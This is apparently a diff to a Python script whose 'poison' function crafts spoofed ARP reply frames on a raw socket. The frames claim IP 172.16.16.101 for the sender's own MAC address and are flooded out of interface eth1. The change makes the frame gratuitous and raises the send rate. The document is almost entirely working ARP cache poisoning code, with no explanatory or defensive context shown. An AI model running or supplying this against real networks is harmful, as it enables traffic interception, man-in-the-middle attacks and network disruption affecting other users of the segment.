@@ -7,13 +7,13 @@ print('begun')
 
 def poison():
     own = '0257ac101067'
-    answer = bytes.fromhex('ffffffffffff' + own + '0806' + '0001080006040002' + own + 'ac101065' + '000000000000' + 'ac101066')
+    answer = bytes.fromhex('ffffffffffff' + own + '0806' + '0001080006040002' + own + 'ac101065' + own + 'ac101065')
     wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     wire.bind(('eth1', 0))
     end = time.time() + 4
     while time.time() < end:
         wire.send(answer)
-        time.sleep(0.0005)
+        time.sleep(0.0002)
 
 try:
     socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()
